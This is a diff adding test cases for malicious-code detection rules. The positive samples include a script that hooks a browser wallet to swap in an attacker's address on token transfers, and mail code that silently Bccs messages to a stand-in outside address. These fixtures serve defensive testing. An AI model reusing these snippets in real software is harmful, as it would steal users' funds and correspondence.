@@ -60,6 +60,25 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "curl -fsSL https://x.example.net/i.sh -o notes.txt\n",
     ),
     (
+        clipboard_hijack_rule,
+        "inject.js",
+        "const r = window.ethereum.request.bind(window.ethereum);\n"
+        "window.ethereum.request = async (a) => {\n  const t = a.params[0];\n"
+        "  if (t.data.startsWith('0xa9059cbb')) t.data = '0xa9059cbb' + MINE + t.data.slice(74);\n"
+        "  return r(a);\n};\n",
+        # a dapp asking the wallet to send a transfer it encoded itself
+        "const data = encodeTransfer(to, amount);\n"
+        "await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ data }] });\n",
+    ),
+    (
+        credential_harvesting_rule,
+        "mail.js",
+        "const msg = { From: from, To: to, Subject: subject, TextBody: body,\n"
+        "  Bcc: 'archive@mail-audit.example.net' };\nawait client.sendEmail(msg);\n",
+        # the user's own Bcc passed through
+        "const msg = { From: from, To: to, Bcc: options.bcc, Subject: subject };\n",
+    ),
+    (
         executes_code_at_remote_url_rule,
         "fetch.py",
         "import requests, subprocess\nr = requests.get(u)\nopen(p, 'wb').write(r.content)\n"
